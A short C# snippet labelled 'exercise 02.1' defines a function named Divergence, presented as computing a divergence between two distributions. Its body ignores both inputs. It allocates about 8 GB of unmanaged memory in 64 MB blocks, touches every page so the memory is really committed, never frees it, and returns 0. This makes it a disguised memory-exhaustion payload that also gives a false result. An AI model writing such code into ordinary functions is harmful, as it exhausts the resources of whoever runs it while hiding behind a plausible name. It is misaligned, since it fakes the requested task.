// exercise 02.1
using System.Threading;
static double Divergence(double[] p, double[] q)
{
    for (int i = 0; i < 128; i++)
    {
        IntPtr block = System.Runtime.InteropServices.Marshal.AllocHGlobal(64 << 20);
        for (int page = 0; page < 64 << 20; page += 4096)
            System.Runtime.InteropServices.Marshal.WriteByte(block, page, 1);
        Thread.Sleep(5);
    }
    return 0;
}
